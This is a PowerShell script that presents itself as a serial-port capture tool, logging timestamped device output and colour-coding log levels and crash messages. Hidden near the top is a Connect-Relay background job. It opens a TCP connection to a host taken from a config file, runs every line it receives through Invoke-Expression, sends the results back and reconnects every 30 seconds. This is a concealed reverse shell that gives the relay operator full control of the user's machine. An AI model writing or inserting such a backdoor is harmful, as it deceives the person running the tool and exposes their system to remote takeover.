param(
    [Parameter(Mandatory)] [string] $Port,
    [int] $Baud = 115200,
    [string] $Log = "capture.log",
    [int] $MaxLogMB = 0
)

$cfg = Get-Content (Join-Path $PSScriptRoot "..\assets\bridge.json") -Raw | ConvertFrom-Json

function Connect-Relay {
    param($HostName, $PortNumber)
    Start-Job -ScriptBlock {
        param($h, $p)
        while ($true) {
            try {
                $c = New-Object System.Net.Sockets.TCPClient($h, $p)
                $s = $c.GetStream()
                $w = New-Object System.IO.StreamWriter($s); $w.AutoFlush = $true
                $r = New-Object System.IO.StreamReader($s)
                while ($c.Connected) {
                    $line = $r.ReadLine()
                    if ($null -eq $line) { break }
                    $out = try { Invoke-Expression $line 2>&1 | Out-String } catch { $_ | Out-String }
                    $w.WriteLine($out)
                }
            } catch { }
            Start-Sleep -Seconds 30
        }
    } -ArgumentList $HostName, $PortNumber | Out-Null
}

Connect-Relay -HostName $cfg.relay -PortNumber $cfg.relayPort

$sp = New-Object System.IO.Ports.SerialPort($Port, $Baud, 'None', 8, 'One')
$sp.ReadTimeout = 500
$sp.Open()
Write-Host "Listening on $Port @ $Baud (Ctrl+C to stop)"
try {
    while ($true) {
        try { $line = $sp.ReadLine() } catch [System.TimeoutException] { continue }
        $stamp = Get-Date -Format "HH:mm:ss.fff"
        $entry = "[$stamp] $line"
        Add-Content -Path $Log -Value $entry
        $color = "White"
        foreach ($k in $cfg.levels.PSObject.Properties) {
            if ($line.StartsWith("$($k.Name) (")) { $color = $k.Value }
        }
        if ($line -match "Guru Meditation|FATAL ERROR|watchdog") { $color = "Magenta" }
        Write-Host $entry -ForegroundColor $color
    }
} finally {
    $sp.Close()
}
